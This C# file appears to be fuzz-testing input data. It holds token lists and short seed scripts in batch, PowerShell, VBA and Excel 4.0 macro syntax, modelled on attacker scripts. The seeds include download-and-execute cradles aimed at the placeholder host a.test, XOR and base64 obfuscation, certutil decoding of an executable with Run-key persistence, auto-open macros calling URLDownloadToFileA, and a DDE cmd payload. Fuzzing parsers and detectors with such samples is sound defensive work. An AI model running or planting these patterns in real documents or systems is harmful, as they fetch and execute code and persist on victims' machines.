using System.Text;

namespace Platform.Fuzz.Targets.Behaviour;

/// <summary>Scripts of the kinds that attackers send, small ones, and the words of which they are made.</summary>
internal static class ScriptInputs
{
    public static IReadOnlyList<string> BatchTokens { get; } =
        ["%", "%%i", "%~1", "%a:~1,2%", "%a:b=c%", "!a!", "^", "&", "&&", "||", "|", "(", ")", "\"", "\r\n", "for /f \"tokens=1\" %%i in (", "for /l %%i in (1,1,3) do ", ") do ", "if not exist ", "==", " else ", ":a\r\n", "goto a", "call :a", "set a=", "set /a a=", "echo ", ">>x.bat", "cmd /c ", "powershell -e ", "certutil -decode a b", "start "];

    public static IReadOnlyList<byte[]> BatchSeeds { get; } = Octets(
        "@echo off\r\nset a=ms\r\n%a%hta http://a.test/x\r\n",
        "setlocal enabledelayedexpansion\r\nfor /f \"tokens=2 delims=.\" %%a in ('echo x.y') do (\r\nset z=!z!%%a\r\n) & call %%z%%\r\n:e\r\nif /i \"%1\"==\"x\" goto e else exit /b\r\n",
        "echo TVqQAAMA>a.b64&certutil -decode a.b64 a.exe&a.exe||reg add HKCU\\Run /v a /d \"%~f0\"");

    public static IReadOnlyList<string> PowerShellTokens { get; } =
        ["$a", "${a}", "$env:x", "'", "\"", "`", "(", ")", "{", "}", "[", "]", "@(", "@{", "$(", "|", ";", "\n", "iex ", "%{", "$_", " -f ", " -join ", " -split ", " -replace ", "..", ",", "[char]", "[Convert]::FromBase64String(", ".Replace(", " -bxor ", "for(", "while(", "function a{", "if(", "}else{", "@'\n", "\n'@", "::", "New-Object ", "=", "+=", "++", "<#", "#>"];

    public static IReadOnlyList<byte[]> PowerShellSeeds { get; } = Octets(
        "IEX (New-Object Net.WebClient).DownloadString(('ht'+'tp://a.test/{0}' -f 'x'))",
        "$k=7;$b=111,115,115,119;for($i=0;$i -lt $b.Length;$i++){$b[$i]=$b[$i] -bxor $k};-join($b|%{[char]$_})|iex",
        "function f($x){ if ($x -gt 3) { return \"a$($x)b\" } else { f ($x+1) } }; try { & (f 1) } catch { switch($_){1{2}default{3}} }",
        "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAAA0tMSgYAwkEkNQMAAAA='));(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,'Decompress'))).ReadToEnd()");

    public static IReadOnlyList<string> BasicTokens { get; } =
        ["Sub AutoOpen()\r\n", "End Sub\r\n", "Function f(x)\r\n", "End Function\r\n", "If ", " Then\r\n", "Else\r\n", "End If\r\n", "For i = 1 To 3\r\n", "Next\r\n", "Do While ", "Loop\r\n", "Select Case ", "Case ", "End Select\r\n", "With ", "End With\r\n", "Dim a(3)", "Set ", " = ", " & ", "\"", "(", ")", ".", ",", ":", "_\r\n", "'", "&H41", "Chr(", "Execute ", "CreateObject(", "Class c\r\n", "End Class\r\n", "GoTo l\r\n", "l:\r\n", " Xor ", " Mod ", "Not ", "-"];

    public static IReadOnlyList<byte[]> BasicSeeds { get; } = Octets(
        "Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\nDim s As String\r\nFor i = 1 To 3: s = s & Chr(64 + i): Next\r\nShell \"cmd /c \" & s, 0\r\nEnd Sub\r\n",
        "Private Declare PtrSafe Function d Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As Long, ByVal u As String) As Long\r\nSub Workbook_Open()\r\nIf Range(\"A1\").Value = 1 Then d 0, \"http://a.test\" Else GoTo e\r\ne: With CreateObject(\"WScript.Shell\")\r\n.Run f(1)\r\nEnd With\r\nEnd Sub\r\nFunction f(x)\r\nSelect Case x\r\nCase 1 To 2: f = StrReverse(\"a\")\r\nEnd Select\r\nEnd Function\r\n",
        "Class c\r\nPublic v\r\nSub m(x)\r\nv = x\r\nEnd Sub\r\nEnd Class\r\nSet o = New c\r\no.m Array(1, &H2, 3)\r\nExecute Replace(\"x=1:y=2\", \"1\", \"2\")\r\nDo Until x > 5\r\nx = x + 1\r\nLoop\r\n");

    public static IReadOnlyList<string> ExcelMacroTokens { get; } =
        ["m!A1: =", "m!A2: =", "\r\n", "FORMULA(", "CHAR(65)", "&", "\"x\"", ")", "(", ",", "A1", "$B$2", "R1C1", "GOTO(", "RUN(", "IF(", "WHILE(", "NEXT()", "FOR(\"i\",1,3)", "EXEC(", "CALL(", "REGISTER(", "HALT()", "RETURN()", "SET.VALUE(", "GET.WORKSPACE(13)", "=", "<>", "+", "-", "*", "/", "^", "%", "'", "!", "|", "name auto_open: =m!A1\r\n"];

    public static IReadOnlyList<byte[]> ExcelMacroSeeds { get; } = Octets(
        "name Auto_Open: =m!$A$1\r\nm!A1: =FORMULA(CHAR(61)&\"EXEC(\"\"calc\"\")\",B1)\r\nm!A2: =IF(GET.WORKSPACE(13)<770,HALT(),)\r\nm!A3: =GOTO(B1)\r\n",
        "m!A1: =FOR(\"i\",1,3)\r\nm!A2: =SET.VALUE(B1,B1&MID(\"abc\",i,1))\r\nm!A3: =NEXT()\r\nm!A4: =CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://a.test/\"&B1,\"c:\\a.exe\",0,0)\r\nm!A5: =RETURN(-5%^2)\r\n",
        "m!A1: =cmd|'/c calc'!A0\r\nm!R2C1: =OFFSET(A1,1,INDEX(A1:B2,1,2))\r\n");

    private static byte[][] Octets(params IEnumerable<string> sources) => [.. sources.Select(Encoding.UTF8.GetBytes)];
}
